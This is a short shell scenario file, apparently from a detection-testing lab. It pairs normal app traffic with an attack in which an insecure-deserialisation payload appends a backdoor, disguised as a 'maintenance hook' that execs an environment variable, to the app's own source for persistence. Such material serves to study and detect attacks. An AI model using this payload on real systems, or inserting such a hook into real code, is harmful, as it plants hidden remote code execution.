# Insecure deserialisation in the app (see app-deserialize-exfil), the code making itself permanent: it appends a
# web shell to the app's own source (`/srv/app/app.py`), which the next restart of the app — a deployment, a crash
# — runs (T1505.003, T1554). Inside the app's process: no shell, no program, no connection; one write, of a file
# the app only ever reads.
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
attack() {
  app_unpickle "$WEB_PORT" "with open('/srv/app/app.py', 'a') as f:
    f.write('\n# maintenance hook\nimport os as _o\n_o.environ.get(\"X_HOOK\") and exec(_o.environ[\"X_HOOK\"])\n')"
}
